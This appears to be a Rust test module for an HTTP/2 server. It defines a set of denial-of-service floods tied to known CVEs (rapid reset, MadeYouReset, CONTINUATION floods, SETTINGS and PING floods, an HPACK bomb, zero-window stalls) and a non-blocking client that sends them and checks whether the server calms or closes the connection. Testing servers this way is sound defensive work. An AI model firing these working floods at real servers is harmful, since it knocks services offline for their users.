@@ -1,0 +1,344 @@
+//! Floods of HTTP/2: frames that are cheap to send.
+
+use super::{End, Leave, Outcome};
+use pinion_tests::client::wire::{Peer, Wire};
+use rustls::ClientConnection;
+use std::io::{self, ErrorKind, Read, Write};
+use std::net::TcpStream;
+use std::thread;
+use std::time::Duration;
+
+/// A flood: what a client sends, turn after turn, until it has nothing more to say.
+pub(crate) struct Flood {
+    pub(crate) name: &'static str,
+    pub(crate) outcome: Outcome,
+    next: fn(u32) -> Option<Vec<u8>>,
+}
+
+/// Everything that is known to have been tried on servers, and what is like it.
+pub(crate) const FLOODS: &[Flood] = &[
+    // CVE-2023-44487
+    calm("rapid reset", |turn| Some([get(id(turn), "/large.bin"), reset(id(turn))].concat())),
+    // CVE-2025-8671
+    calm("made you reset", |turn| Some(made_you_reset(id(turn), turn))),
+    calm("streams that are refused", |turn| match turn {
+        0 => Some(setting(INITIAL_WINDOW, 0)),
+        _ => Some(get(id(turn), "/large.bin")),
+    }),
+    // CVE-2024-27316
+    calm("CONTINUATION of a full frame", |turn| Some(continuation(turn, 16_384))),
+    calm("CONTINUATION of little", |turn| Some(continuation(turn, 10))),
+    calm("CONTINUATION of nothing", |turn| Some(continuation(turn, 0))),
+    // CVE-2019-9515
+    calm("SETTINGS", |_| Some(frame(SETTINGS, 0, 0, &[]))),
+    calm("SETTINGS, each with thousands", |turn| match turn {
+        0..100 => Some(get(id(turn), "/large.bin")),
+        _ => Some(frame(SETTINGS, 0, 0, &entry(INITIAL_WINDOW, turn % 2).repeat(2700))),
+    }),
+    // CVE-2019-9512
+    calm("PING", |_| Some(frame(PING, 0, 0, b"pingpong"))),
+    // CVE-2019-9518
+    calm("empty DATA", |turn| match turn {
+        0 => Some(head(id(0), END_HEADERS, "POST", "/")),
+        _ => Some(frame(DATA, 0, id(0), &[])),
+    }),
+    Flood {
+        name: "padded DATA without content",
+        // It uses up the window of a stream that is over.
+        outcome: Outcome::Ended,
+        next: |turn| match turn {
+            0 => Some(head(id(0), END_HEADERS, "POST", "/")),
+            _ => Some(frame(DATA, PADDED, id(0), &[0])),
+        },
+    },
+    calm("empty HEADERS", |turn| Some(frame(HEADERS, END_HEADERS | END_STREAM, id(turn), &[]))),
+    // CVE-2019-9513
+    calm("PRIORITY", |turn| Some(frame(PRIORITY, 0, id(turn), &[0, 0, 0, 0, turn as u8]))),
+    calm("PRIORITY_UPDATE", |turn| {
+        let payload = [&[0, 0, 0, 1][..], format!("u={}", turn % 8).as_bytes()].concat();
+        Some(frame(PRIORITY_UPDATE, 0, 0, &payload))
+    }),
+    calm("frames that nobody knows", |_| Some(frame(0xfe, 0xff, 0, &[0; 8]))),
+    calm("GOAWAY", |_| Some(frame(GOAWAY, 0, 0, &[0; 8]))),
+    calm("RST_STREAM of what is over", |turn| match turn {
+        0 => Some(get(id(0), "/")),
+        _ => Some(reset(id(0))),
+    }),
+    // CVE-2019-9511
+    calm("windows opened byte by byte", |turn| match turn {
+        0 => Some(setting(INITIAL_WINDOW, 0)),
+        1 => Some(get(id(0), "/large.bin")),
+        _ => Some(frame(WINDOW_UPDATE, 0, id(0), &1u32.to_be_bytes())),
+    }),
+    borne("windows that stay shut", |turn| match turn {
+        0 => Some(setting(INITIAL_WINDOW, 0)),
+        1..=100 => Some(get(id(turn), "/large.bin")),
+        _ => None,
+    }),
+    // CVE-2016-6581: a byte for each 4000 bytes of fields, in every request again.
+    calm("fields of a full table, many times", |turn| Some(hpack_bomb(turn))),
+    borne("table sizes that change, many times", |turn| {
+        Some(headers_of(id(turn), &[&[0x3f, 0xe1, 0x1f, 0x20][..], &block("GET", "/")].concat()))
+    }),
+    borne("heads beyond the limit", |turn| Some(huge_head(id(turn)))),
+    borne("half a frame", |turn| match turn {
+        0 => Some(head(id(0), END_HEADERS, "POST", "/")[..12].to_vec()),
+        _ => None,
+    }),
+];
+
+const fn calm(name: &'static str, next: fn(u32) -> Option<Vec<u8>>) -> Flood {
+    Flood { name, outcome: Outcome::Calm, next }
+}
+
+const fn borne(name: &'static str, next: fn(u32) -> Option<Vec<u8>>) -> Flood {
+    Flood { name, outcome: Outcome::Borne, next }
+}
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+
+const DATA: u8 = 0;
+const HEADERS: u8 = 1;
+const PRIORITY: u8 = 2;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const GOAWAY: u8 = 7;
+const WINDOW_UPDATE: u8 = 8;
+const CONTINUATION: u8 = 9;
+const PRIORITY_UPDATE: u8 = 0x10;
+
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
+const PADDED: u8 = 8;
+
+const INITIAL_WINDOW: u16 = 4;
+
+const ENHANCE_YOUR_CALM: u32 = 11;
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
+    frame.extend([kind, flags]);
+    frame.extend(stream.to_be_bytes());
+    frame.extend_from_slice(payload);
+    frame
+}
+
+fn entry(name: u16, value: u32) -> Vec<u8> {
+    [&name.to_be_bytes()[..], &value.to_be_bytes()].concat()
+}
+
+fn setting(name: u16, value: u32) -> Vec<u8> {
+    frame(SETTINGS, 0, 0, &entry(name, value))
+}
+
+/// The stream of a turn.
+fn id(turn: u32) -> u32 {
+    2 * turn + 1
+}
+
+/// A field block without a table (RFC 7541 §6.2.2): scheme, method, authority, path.
+fn block(method: &str, path: &str) -> Vec<u8> {
+    let mut block = vec![0x86]; // :scheme http, which is also taken where https is meant
+    for (name, value) in [(2, method), (1, "localhost"), (4, path)] {
+        block.extend([name, value.len() as u8]);
+        block.extend_from_slice(value.as_bytes());
+    }
+    block
+}
+
+fn head(stream: u32, flags: u8, method: &str, path: &str) -> Vec<u8> {
+    frame(HEADERS, flags, stream, &block(method, path))
+}
+
+fn headers_of(stream: u32, block: &[u8]) -> Vec<u8> {
+    frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
+}
+
+fn get(stream: u32, path: &str) -> Vec<u8> {
+    head(stream, END_HEADERS | END_STREAM, "GET", path)
+}
+
+fn reset(stream: u32) -> Vec<u8> {
+    frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())
+}
+
+/// Faults that make the server end a stream.
+fn made_you_reset(stream: u32, turn: u32) -> Vec<u8> {
+    let fault = match turn % 6 {
+        0 => frame(WINDOW_UPDATE, 0, stream, &[0; 4]),
+        1 => frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffffu32.to_be_bytes()),
+        2 => frame(DATA, 0, stream, b"more"),
+        3 => frame(PRIORITY, 0, stream, &[&stream.to_be_bytes()[..], &[1]].concat()),
+        4 => frame(PRIORITY, 0, stream, &[0; 4]),
+        _ => headers_of(stream, &block("GET", "/")),
+    };
+    [get(stream, "/large.bin"), fault].concat()
+}
+
+/// A head that never ends, in pieces of so many bytes.
+fn continuation(turn: u32, bytes: usize) -> Vec<u8> {
+    match turn {
+        0 => head(id(0), 0, "GET", "/"),
+        // Fields without a name and a value that is long: more of them is always right.
+        _ => frame(CONTINUATION, 0, id(0), &[0x00, 0x01, b'a', 0x01, b'b'].repeat(bytes / 5)),
+    }
+}
+
+/// First a field that fills the table, then requests that name it thousands of times.
+fn hpack_bomb(turn: u32) -> Vec<u8> {
+    let mut fields = block("GET", "/");
+    if turn == 0 {
+        // 0x40: a literal that goes into the table; 4000 = 127 + 3873.
+        fields.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
+        fields.extend([b'y'; 4000]);
+    } else {
+        fields.resize(16_000, 0xbe); // the first entry of the table
+    }
+    headers_of(id(turn), &fields)
+}
+
+/// 40 KiB of a head, of which a frame has at most 16.
+fn huge_head(stream: u32) -> Vec<u8> {
+    let field = [&[0x00, 1, b'x', 100][..], &[b'y'; 100]].concat();
+    let full = field.repeat(150);
+    let first = [&block("GET", "/")[..], &field.repeat(100)].concat();
+    let first = frame(HEADERS, END_STREAM, stream, &first);
+    let next = frame(CONTINUATION, 0, stream, &full);
+    [first, next, frame(CONTINUATION, END_HEADERS, stream, &full[..full.len() / 2])].concat()
+}
+
+/// A connection that neither reading nor writing waits for.
+struct Attacker {
+    socket: TcpStream,
+    tls: Option<ClientConnection>,
+    /// What is to be sent, and of that what has been.
+    out: Vec<u8>,
+    sent: usize,
+    /// What has come and is no whole frame.
+    held: Vec<u8>,
+    sent_bytes: u64,
+}
+
+impl Flood {
+    /// Floods on one connection until its end.
+    pub(crate) fn attack(&self, peer: &Peer, leave: Leave) -> End {
+        let Ok(wire) = Wire::open(peer) else { return End::Cut };
+        let mut attacker = Attacker::new(wire);
+        let (mut turn, mut vain_looks) = (0, 0);
+        let mut has_more = true;
+        loop {
+            while has_more && attacker.out.len() < 32 << 10 {
+                match (self.next)(turn) {
+                    Some(bytes) => attacker.say(&bytes),
+                    None => has_more = false,
+                }
+                turn += 1;
+            }
+            let wrote = attacker.write();
+            let read = match attacker.read() {
+                Ok(read) => read,
+                Err(end) => return end,
+            };
+            // What the server says before it closes may still come when it takes nothing more.
+            if !read && !wrote {
+                vain_looks += u32::from(!has_more);
+                thread::sleep(Duration::from_micros(500));
+            }
+            if leave.is_now(attacker.sent_bytes, vain_looks) {
+                return End::Left;
+            }
+        }
+    }
+}
+
+impl Attacker {
+    fn new(wire: Wire) -> Attacker {
+        let (socket, tls) = match wire {
+            Wire::Plain(socket) => (socket, None),
+            Wire::Tls(stream) => {
+                let rustls::StreamOwned { conn, sock } = *stream;
+                (sock, Some(conn))
+            }
+        };
+        socket.set_nonblocking(true).expect("a socket");
+        let (out, held) = (Vec::new(), Vec::new());
+        let mut attacker = Attacker { socket, tls, out, sent: 0, held, sent_bytes: 0 };
+        attacker.say(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat());
+        attacker
+    }
+
+    fn say(&mut self, bytes: &[u8]) {
+        let Some(tls) = &mut self.tls else { return self.out.extend_from_slice(bytes) };
+        let mut bytes = bytes;
+        while !bytes.is_empty() {
+            let taken = tls.writer().write(bytes).expect("a session takes bytes");
+            bytes = &bytes[taken..];
+            while tls.wants_write() {
+                tls.write_tls(&mut self.out).expect("memory takes bytes");
+            }
+        }
+    }
+
+    /// Sends what the kernel takes; false when that is nothing.
+    fn write(&mut self) -> bool {
+        match self.socket.write(&self.out[self.sent..]) {
+            Ok(bytes) => {
+                self.sent += bytes;
+                self.sent_bytes += bytes as u64;
+                if self.sent == self.out.len() {
+                    self.out.clear();
+                    self.sent = 0;
+                }
+                bytes > 0
+            }
+            Err(_) => false,
+        }
+    }
+
+    /// Reads what has come; false when that is nothing, and an error when it was the end.
+    fn read(&mut self) -> Result<bool, End> {
+        let mut bytes = [0; 16_384];
+        match self.receive(&mut bytes) {
+            Ok(0) => Err(End::Cut),
+            Ok(count) => {
+                self.held.extend_from_slice(&bytes[..count]);
+                self.frames().map(|()| true)
+            }
+            Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(false),
+            Err(_) => Err(End::Cut),
+        }
+    }
+
+    fn receive(&mut self, bytes: &mut [u8]) -> io::Result<usize> {
+        let Some(tls) = &mut self.tls else { return self.socket.read(bytes) };
+        loop {
+            match tls.reader().read(bytes) {
+                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
+                done => return done,
+            }
+            tls.read_tls(&mut self.socket)?;
+            tls.process_new_packets().map_err(io::Error::other)?;
+        }
+    }
+
+    /// Looks for a GOAWAY among the frames that have come. One with NO_ERROR ends nothing.
+    fn frames(&mut self) -> Result<(), End> {
+        let mut rest = self.held.as_slice();
+        while let Some((header, behind)) = rest.split_first_chunk::<9>() {
+            let bytes = u32::from_be_bytes([0, header[0], header[1], header[2]]) as usize;
+            let Some((payload, behind)) = behind.split_at_checked(bytes) else { break };
+            rest = behind;
+            if header[3] == GOAWAY {
+                let code = payload[4..8].try_into().map(u32::from_be_bytes);
+                match code.expect("four bytes") {
+                    0 => {}
+                    ENHANCE_YOUR_CALM => return Err(End::Calm),
+                    other => return Err(End::Other(other.into())),
+                }
+            }
+        }
+        self.held = rest.to_vec();
+        Ok(())
+    }
+}
